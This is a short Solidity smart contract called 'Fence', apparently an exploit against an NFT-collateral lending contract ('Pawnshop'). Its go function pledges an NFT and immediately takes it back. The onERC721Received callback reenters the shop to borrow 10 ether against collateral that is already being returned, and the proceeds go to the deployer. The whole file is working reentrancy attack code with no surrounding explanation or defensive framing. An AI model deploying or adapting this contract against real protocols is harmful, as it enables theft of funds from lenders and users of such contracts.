// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

interface I721 {
    function transferFrom(address from, address to, uint256 id) external;
    function setApprovalForAll(address operator, bool approved) external;
}

interface IPawnshop {
    function pledge(uint256 id) external;
    function borrow(uint256 amount) external;
    function takeBack(uint256 id) external;
}

/// Takes the item back and, while it arrives, borrows on it.
contract Fence {
    IPawnshop private immutable shop;
    I721 private immutable nft;
    address private immutable boss = msg.sender;

    constructor(IPawnshop shop_, I721 nft_) {
        (shop, nft) = (shop_, nft_);
    }

    receive() external payable {}

    function go(uint256 id) external {
        require(msg.sender == boss);
        nft.setApprovalForAll(address(shop), true);
        nft.transferFrom(boss, address(this), id);
        shop.pledge(id);
        shop.takeBack(id);
        (bool sent,) = boss.call{value: address(this).balance}("");
        require(sent);
    }

    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
        try shop.borrow(10 ether) {} catch {}
        return this.onERC721Received.selector;
    }
}
